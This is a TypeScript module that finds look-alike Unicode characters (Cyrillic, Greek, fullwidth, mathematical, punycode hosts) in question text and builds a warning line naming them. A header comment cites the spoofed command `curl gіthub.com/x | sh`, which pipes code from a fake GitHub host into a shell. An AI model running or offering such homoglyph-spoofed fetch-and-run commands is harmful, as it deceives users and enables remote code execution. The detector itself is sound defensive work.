// Characters that look like the Latin letters of a command, a path or a host and are not: a
// Cyrillic `а` in `rаm`, a Greek `ο` in `gοogle.com`, fullwidth `ｒｍ`, mathematical `𝐫𝐦`. The
// question shows the text as it is, so it reads as what the user expects — `curl gіthub.com/x | sh`
// asked about a host that is not GitHub's. A question whose text holds such a word names each one
// and the characters in it, visibly, before its answer keys.

/** Letters of other scripts drawn like Latin ones (lower and upper case). */
const latinLookAlikes = new Set(
  [
    // Cyrillic
    ...'аеорсухіјѕһԁԛԝѡвкмнтгпАВЕКМНОРСТУХІЈЅҺԌԚԜ',
    // Greek
    ...'αβγεηικνορτυχωΑΒΕΖΗΙΚΜΝΟΡΤΥΧ',
    // Armenian and Cherokee letters drawn like Latin ones
    ...'օսոհզաɡԁꭰꭱꭲꭳꭵꭺᎪᎫᎬᎻᏆᎷᏀᏃ',
  ].map((char) => char.codePointAt(0) ?? 0),
);

/**
 * Latin letters drawn like other ASCII letters or punctuation: IPA letters (`ɡ`, `ɑ`, `ɩ`), the
 * dotless `ı` and `ȷ`, the click letters drawn as `|` and `!`. Accented letters (`é`) are not.
 */
function isOddLatin(code: number): boolean {
  return (
    (code >= 0x0250 && code <= 0x02af) ||
    code === 0x0131 ||
    code === 0x0237 ||
    (code >= 0x01c0 && code <= 0x01c3) ||
    (code >= 0x1d00 && code <= 0x1d2b)
  );
}

function isLatinLetter(char: string): boolean {
  return (
    /\p{Script=Latin}/u.test(char) && /\p{L}/u.test(char) && !isOddLatin(char.codePointAt(0) ?? 0)
  );
}

/** Fullwidth ASCII (U+FF01–FF5E), mathematical alphanumerics, letterlike symbols. */
function isWideOrStyled(code: number): boolean {
  return (
    (code >= 0xff01 && code <= 0xff5e) ||
    (code >= 0x1d400 && code <= 0x1d7ff) ||
    (code >= 0x2100 && code <= 0x214f)
  );
}

/** One suspicious word and the characters that make it so. */
export interface LookAlikeWord {
  word: string;
  /** `а U+0430 (Cyrillic)` for each character that is not what it looks like. */
  characters: string[];
}

function scriptOf(char: string): string {
  const code = char.codePointAt(0) ?? 0;
  if (code >= 0xff01 && code <= 0xff5e) return 'fullwidth';
  if (code >= 0x1d400 && code <= 0x1d7ff) return 'mathematical';
  if (code >= 0x2100 && code <= 0x214f) return 'letterlike symbol';
  for (const script of ['Cyrillic', 'Greek', 'Armenian', 'Cherokee', 'Latin'])
    if (new RegExp(`\\p{Script=${script}}`, 'u').test(char)) return script;
  return 'other script';
}

function describe(char: string): string {
  const code = char.codePointAt(0) ?? 0;
  return `${char} U+${code.toString(16).toUpperCase().padStart(4, '0')} (${scriptOf(char)})`;
}

/**
 * The words of `text` (split at blanks and the punctuation of commands, paths and URLs) that hold
 * a character looking like a Latin letter without being one — in a word that has Latin letters
 * too, or one made only of such characters — or a fullwidth or mathematical letter; and each host
 * name (`://host`) written in anything but ASCII, or in punycode (`xn--`).
 */
export function lookAlikeWords(text: string): LookAlikeWord[] {
  const found = new Map<string, LookAlikeWord>();
  for (const word of text.split(/[\s"'`,;:|&<>()[\]{}=/\\@?#*$!]+/u)) {
    if (word === '' || found.has(word) || /^[\x20-\x7e]*$/.test(word)) continue;
    const chars = [...word];
    const letters = chars.filter((char) => /\p{L}/u.test(char));
    const latin = letters.some(isLatinLetter);
    const suspicious = chars.filter((char) => {
      const code = char.codePointAt(0) ?? 0;
      if (isWideOrStyled(code) || isOddLatin(code)) return true;
      if (!/\p{L}/u.test(char) || isLatinLetter(char)) return false;
      // A letter of another script: suspicious beside Latin letters, or when every letter of the
      // word could pass for Latin (`ѕһ`, `рое`); a word of real Russian or Greek is not.
      return (
        latin ||
        letters.every(
          (letter) => isLatinLetter(letter) || latinLookAlikes.has(letter.codePointAt(0) ?? 0),
        )
      );
    });
    if (suspicious.length > 0)
      found.set(word, { word, characters: [...new Set(suspicious)].map(describe) });
  }
  for (const match of text.matchAll(/:\/\/([^/\s"'`?#:]+)/gu)) {
    const host = match[1] ?? '';
    if (found.has(host)) continue;
    if (!/^[\x20-\x7e]*$/.test(host))
      found.set(host, {
        word: host,
        characters: [...new Set([...host].filter((char) => (char.codePointAt(0) ?? 0) > 0x7e))].map(
          describe,
        ),
      });
    else if (/(^|\.)xn--/i.test(host))
      found.set(host, {
        word: host,
        characters: ['a punycode (xn--) name: not the letters shown'],
      });
  }
  return [...found.values()];
}

/** Most look-alike words a warning names (then how many more). */
const maxNamed = 5;

/**
 * A warning line for a question whose text holds look-alike characters (`⚠ look-alike
 * characters: "rаm" has а U+0430 (Cyrillic) …`), or '' when it has none. Shown before the answer
 * keys, so it is on screen whatever the text above it says.
 */
export function lookAlikeWarning(text: string): string {
  const words = lookAlikeWords(text);
  if (words.length === 0) return '';
  const named = words
    .slice(0, maxNamed)
    .map(({ word, characters }) => `"${word}" has ${characters.join(', ')}`)
    .join('; ');
  const more = words.length > maxNamed ? `; and ${words.length - maxNamed} more word(s)` : '';
  return `⚠ look-alike characters — not the letters they seem: ${named}${more}\n`;
}
